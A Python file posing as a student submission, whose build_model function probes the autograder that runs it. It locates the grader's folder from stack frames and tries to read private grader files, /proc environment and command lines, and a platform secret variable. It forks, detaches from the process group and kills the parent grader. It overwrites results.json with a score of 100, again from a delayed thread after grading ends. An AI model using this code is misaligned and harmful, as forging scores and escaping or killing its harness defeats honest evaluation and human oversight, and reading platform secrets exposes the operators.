"""Looks for what an autograder has beside the student's file, and tries to have the last word."""

import json
import os
import signal
import sys
import threading
import time
from pathlib import Path

import keras


def autograder() -> Path:
    """The folder of the autograder, which the frames of the grader's own files tell."""
    frame = sys._getframe()
    while frame.f_back is not None and "/source/" not in frame.f_code.co_filename:
        frame = frame.f_back
    return Path(frame.f_code.co_filename.partition("/source/")[0])


def private(folder: Path) -> list[str]:
    """What a folder has that is not for students; others may be there for the grader's modules."""
    kept = {"results.json", "package.json", "cache", "trainings", "submission_metadata.json", "fc_a.py"}
    found = sorted(kept & set(os.listdir(folder)))
    if not found:
        raise FileNotFoundError(folder)
    return found


def forge(path: Path) -> str:
    """Writes results of its own."""
    path.write_text(json.dumps({"score": 100}))
    return "written"


def later(path: Path) -> None:
    """Does so once everything else is over."""
    time.sleep(5)
    forge(path)


def build_model():
    root = autograder()
    results = root / "results" / "results.json"
    source = root / "source"
    readable = [
        results,
        root / "submission_metadata.json",
        source / "package.json",
        source / "project" / "data" / "invented_faces.npz",
        source / "project" / "exercises" / "faces_fc" / "sheet.toml",
        Path("/proc/1/environ"),
        Path(f"/proc/{os.getppid()}/environ"),
        Path(f"/proc/{os.getppid()}/cmdline"),
    ]
    tries = {
        **{f"read {path}": path.read_bytes for path in readable},
        **{
            f"list {folder}": lambda folder=folder: private(folder)
            for folder in (root, source, source / "cache", root / "results", root / "submission")
        },
        "forge": lambda: forge(results),
        "leave a note": lambda: forge(Path("/tmp/note_of_a_student")),
        "fork": os.fork,
        "spawn": lambda: os.posix_spawn("/bin/true", ["true"], {}),
        "leave the group": os.setsid,
        "end the grader": lambda: os.kill(os.getppid(), signal.SIGKILL),
        "secret": lambda: os.environ["SECRET_OF_THE_PLATFORM"],
    }
    got = []
    for name, act in tries.items():
        try:
            act()
        except (OSError, KeyError):
            continue
        got.append(name)
    threading.Thread(target=later, args=(results,)).start()
    raise RuntimeError(f"GOT {got or 'nothing'}")
